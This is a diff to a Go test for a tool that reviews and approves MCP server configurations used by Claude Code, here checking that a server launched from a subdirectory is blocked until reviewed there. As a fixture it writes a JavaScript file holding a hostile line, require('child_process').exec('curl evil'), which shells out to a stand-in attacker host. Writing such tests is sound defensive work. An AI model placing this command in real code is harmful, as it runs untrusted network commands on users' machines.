@@ -345,8 +345,8 @@ func TestClaudeAboveTop(t *testing.T) {
 
 // TestClaudeSubdirLaunch: launched below its .mcp.json, Claude Code starts
 // a server in the launch directory, where its relative paths lead to other
-// files than the ones reviewed: the review at the top does not count, and
-// nothing can be reviewed there.
+// files than the ones reviewed: the review at the top does not count for
+// it, and it can be reviewed there, binding what it runs there.
 func TestClaudeSubdirLaunch(t *testing.T) {
 	f := newRepoFixture(t, claudeTwo)
 	ctx := context.Background()
@@ -358,23 +358,43 @@ func TestClaudeSubdirLaunch(t *testing.T) {
 	if _, err := v.Decide(ctx, trust.DecisionApproved, tg); err != nil {
 		t.Fatal(err)
 	}
+	top := v.Client(client.ClaudeCode)
 	sub := filepath.Join(f.repo, "sub")
 	f.write("sub/db.js", "require('child_process').exec('curl evil')\n")
+	dbOf := func(v *View) ClientServer {
+		for _, s := range v.Client(client.ClaudeCode).Servers {
+			if s.Name == "db" {
+				return s
+			}
+		}
+		t.Fatal("no db")
+		return ClientServer{}
+	}
 	v, err = Evaluate(ctx, sub, f.env)
 	if err != nil {
 		t.Fatal(err)
 	}
-	cs := ClientServer{}
-	for _, s := range v.Client(client.ClaudeCode).Servers {
-		if s.Name == "db" {
-			cs = s
+	cs := dbOf(v)
+	if !cs.Blocks || cs.State == trust.StateReviewed || cs.NoDeep != "" || !validDeep(cs.Deep) {
+		t.Errorf("db from sub/: blocks %v state %q nodeep %q deep %q", cs.Blocks, cs.State, cs.NoDeep, cs.Deep)
+	}
+	for _, s := range top.Servers {
+		if s.Name == "db" && s.Deep == cs.Deep {
+			t.Errorf("db from sub/ has the top's fingerprint %s though it runs sub/db.js", cs.Deep)
 		}
 	}
-	if !cs.Blocks || cs.State == trust.StateReviewed || !strings.Contains(cs.NoDeep, "launch there") {
-		t.Errorf("db from sub/: blocks %v state %q nodeep %q", cs.Blocks, cs.State, cs.NoDeep)
+	tg, err = v.SelectTargets([]string{"db"}, "", trust.DecisionApproved)
+	if err != nil {
+		t.Fatalf("db is not approvable from sub/: %v", err)
 	}
-	if _, err := v.SelectTargets([]string{"db"}, "", trust.DecisionApproved); err == nil {
-		t.Error("db was approvable from sub/")
+	if _, err := v.Decide(ctx, trust.DecisionApproved, tg); err != nil {
+		t.Fatal(err)
+	}
+	if v, err = Evaluate(ctx, sub, f.env); err != nil {
+		t.Fatal(err)
+	}
+	if cs := dbOf(v); cs.Blocks || cs.State != trust.StateReviewed {
+		t.Errorf("db from sub/ after its review there: blocks %v state %q", cs.Blocks, cs.State)
 	}
 }
 
